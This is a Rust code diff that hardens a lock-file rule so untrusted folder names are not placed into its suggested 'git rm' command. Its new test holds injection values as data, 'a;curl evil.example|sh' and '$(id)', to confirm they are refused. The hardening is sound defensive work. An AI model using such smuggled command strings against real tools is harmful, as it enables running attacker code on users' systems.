@@ -4,7 +4,7 @@ use std::collections::{BTreeMap, BTreeSet};
 
 use super::{Locks, Text, ecosystem_of, is_aside, name_of, named};
 use crate::model::{Confidence, Coverage, Finding, Location, RuleKind, RuleMeta, Severity};
-use crate::probe::packages::{Ecosystem, Manager, Manifest, Packages};
+use crate::probe::packages::{Ecosystem, Manager, Manifest, Packages, typed};
 use crate::probe::repository::repo::folder_of;
 
 /// The rule.
@@ -80,8 +80,11 @@ fn finding(packages: &Packages, manifest: &str, locks: &BTreeSet<&str>, text: Te
     });
     let fix = match (keep, &chosen) {
         (Some(keep), Some((_, why))) => {
-            let others: Vec<&str> = locks.iter().copied().filter(|lock| *lock != keep).collect();
-            format!("Keep `{keep}`, since {why}, and delete the rest: `git rm {}`.", others.join(" "))
+            // Folders come from strangers: one that a shell would read as more than a path is not put into a command.
+            let others: Option<Vec<String>> =
+                locks.iter().filter(|lock| **lock != keep).map(|lock| typed::path(lock)).collect();
+            let command = others.map(|others| format!(": `git rm {}`", others.join(" "))).unwrap_or_default();
+            format!("Keep `{keep}`, since {why}, and delete the rest{command}.")
         }
         _ if ecosystem_of(manifest) == Ecosystem::Npm => {
             "Keep the lock file of the package manager that your deployment runs, delete the others, and name it in `packageManager` of `package.json`.".to_owned()
@@ -185,5 +188,25 @@ mod tests {
         assert!(seen[0].contains("git rm apps/web/package-lock.json"), "{seen:?}");
         let seen = told(&packages, &["pnpm-lock.yaml", "apps/web/pnpm-lock.yaml"], &[]);
         assert!(seen[0].contains("Keep `pnpm-lock.yaml`, since it is that of the whole workspace"), "{seen:?}");
+    }
+
+    #[test]
+    fn a_command_holds_nothing_but_paths() {
+        for (folder, typed) in [
+            ("apps/web", Some("`git rm apps/web/package-lock.json`")),
+            ("my shop", Some("`git rm \"my shop/package-lock.json\"`")),
+            ("a;curl evil.example|sh", None),
+            ("$(id)", None),
+        ] {
+            let mut manifest = samples::manifest(&format!("{folder}/package.json"), &[]);
+            manifest.package_manager = Some("pnpm@10.4.1".to_owned());
+            let packages = samples::packages(vec![manifest], Vec::new());
+            let locks = [format!("{folder}/package-lock.json"), format!("{folder}/pnpm-lock.yaml")];
+            let seen = told(&packages, &[&locks[0], &locks[1]], &[]);
+            match typed {
+                Some(typed) => assert!(seen[0].contains(typed), "{seen:?}"),
+                None => assert!(!seen[0].contains("git rm") && seen[0].ends_with("delete the rest."), "{seen:?}"),
+            }
+        }
     }
 }
